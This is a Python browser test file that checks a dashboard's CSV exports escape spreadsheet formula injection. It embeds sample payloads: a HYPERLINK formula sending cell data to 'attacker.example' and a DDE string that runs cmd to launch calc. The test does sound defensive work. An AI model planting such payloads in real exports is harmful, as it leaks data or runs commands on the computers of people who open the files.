"""CSV exports in headless Chromium open safely in a spreadsheet: text that a source made look
like a formula is exported as text, by the grid's own export and by the server's download."""

from __future__ import annotations

import csv
import dataclasses
import time
from pathlib import Path

import pytest

from dashboard import create_app, ids
from dashboard.components.csv_export import FORMULA_STARTS
from dashboard.data.sources import SimulatorSource
from tests.browser.test_pages import see
from tests.conftest import FIXED_NOW, SEED, FixedTimeSource, testing_config

pytestmark = pytest.mark.browser

LINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"details")'
SUM = "@SUM(1+1)"
COMMAND = "+cmd|' /C calc'!A0"


class FormulaSource:
    """The simulator, with feature names and failure reasons that a spreadsheet would run."""

    def __init__(self) -> None:
        self.source = FixedTimeSource(SimulatorSource(SEED), FIXED_NOW)
        self.name = f"{self.source.name} with formulas"

    def read(self, now, since=None):
        snapshot = self.source.read(now, since)
        tables = dict(snapshot.tables)
        samples = tables["feature_samples"].copy()
        features = samples["feature"].astype(str)
        samples["feature"] = features.replace({"severity": LINK, "event_rate": SUM})
        sessions = tables["training_sessions"].copy()
        sessions["failure_reason"] = COMMAND
        tables.update(feature_samples=samples, training_sessions=sessions)
        return dataclasses.replace(snapshot, tables=tables)


@pytest.fixture
def dashboard(dash_duo):
    dash_duo.driver.set_window_size(1600, 1200)
    dash_duo.start_server(create_app(testing_config(DATA_SOURCE_OBJECT=FormulaSource())))
    return dash_duo


def wait_for_grid_text(duo, grid_id: str, text: str, timeout: float = 30) -> None:
    script = (
        "const grid = document.getElementById(arguments[0]); return grid ? grid.textContent : ''"
    )
    duo._wait_for(
        lambda _driver: text in duo.driver.execute_script(script, grid_id),
        timeout=timeout,
        msg=f"{grid_id} never showed {text!r}",
    )


def click(duo, element_id: str) -> None:
    # A click in the page (charts still settling below may move the button under a pointer).
    duo.driver.execute_script("arguments[0].click()", duo.find_element(f"#{element_id}"))


def downloaded(duo, name: str, timeout: float = 20) -> list[dict[str, str]]:
    path = Path(duo.download_path) / name
    deadline = time.monotonic() + timeout
    while not path.exists() or path.stat().st_size == 0:
        assert time.monotonic() < deadline, f"{name} was never downloaded"
        time.sleep(0.2)
    time.sleep(0.2)  # Chromium renames the finished file into place; let it settle
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.DictReader(file))


def no_formula_cells(rows: list[dict[str, str]]) -> list[str]:
    return [value for row in rows for value in row.values() if value.startswith(FORMULA_STARTS)]


def test_the_drift_grid_exports_formulas_as_text(dashboard):
    dashboard.wait_for_page(url=f"{dashboard.server_url}/data-quality?range=30d")
    see(dashboard, ids.DQ_DRIFT_VIEW)
    wait_for_grid_text(dashboard, ids.DQ_DRIFT_TABLE, LINK)
    click(dashboard, ids.DQ_DRIFT_EXPORT)
    rows = downloaded(dashboard, "feature-drift.csv")
    features = {row["Feature"] for row in rows}
    assert {"'" + LINK, "'" + SUM} <= features
    assert no_formula_cells(rows) == []
    assert dashboard.get_logs() == []


def test_the_sessions_download_exports_formulas_as_text(dashboard):
    dashboard.wait_for_page(url=f"{dashboard.server_url}/training?range=30d")
    wait_for_grid_text(dashboard, ids.TR_SESSIONS, COMMAND)
    click(dashboard, ids.TR_SESSIONS_EXPORT)
    rows = downloaded(dashboard, "training-sessions.csv")
    assert rows and {row["failure_reason"] for row in rows} == {"'" + COMMAND}
    assert no_formula_cells(rows) == []
    assert dashboard.get_logs() == []
